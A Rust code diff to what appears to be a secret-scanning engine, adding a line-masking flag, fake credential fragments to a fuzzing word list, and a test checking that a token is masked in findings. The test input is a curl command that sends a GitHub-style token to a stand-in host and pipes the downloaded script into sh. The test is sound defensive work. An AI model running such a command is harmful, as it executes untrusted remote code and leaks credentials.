@@ -32,7 +32,9 @@ impl Engine {
         let mut lower = Lowered::default();
         let first = LineRef { index: 0, start: 0, end: 0 };
         for (line, _) in (Body { text }).lines_from(first) {
-            self.confirm(text, line, every_rule, &mut lower, &mut findings);
+            // Masks every line with a finding: what the engine's masking of
+            // lines with a secret trigger only must come to.
+            self.confirm(text, line, every_rule, true, &mut lower, &mut findings);
             let bytes = &text.as_bytes()[line.start..line.end];
             for (i, triggers) in analyzers.iter().enumerate() {
                 if triggers.iter().any(|t| t.spelled_in(bytes)) {
@@ -110,6 +112,12 @@ const GLUE: &[&str] = &[
     "é",
     "\u{3000}",
     "c\"\"url",
+    // Pieces of credentials: a trigger fragment (`ghp_`, `sk-`, `API_KEY`)
+    // before a random-looking run makes a token, whose line gets masked.
+    "Zq8rT2mXv4nK7pL1sW9yB3cD6fH0jG5aQe2R",
+    "API_KEY=",
+    "postgres://app:",
+    "@db.acme.io",
 ];
 
 /// One piece of a generated body.
@@ -146,6 +154,11 @@ fn agrees_with_the_engine_on_the_rule_families_own_examples() {
     ] {
         assert_eq!(engine.scan(body), engine.scan_naive(body), "{body:?}");
     }
+    // A token on a line another rule reports: both mask it.
+    let token = ["ghp_", "Zq8rT2mXv4nK7pL1sW9yB3cD6fH0jG5aQe2R"].concat();
+    let body = format!("curl -H \"Authorization: token {token}\" https://x.example/i.sh | sh\n");
+    assert_eq!(engine.scan(&body), engine.scan_naive(&body));
+    assert!(engine.scan(&body).findings.iter().all(|f| !f.excerpt.contains(&token[4..])));
 }
 
 proptest! {
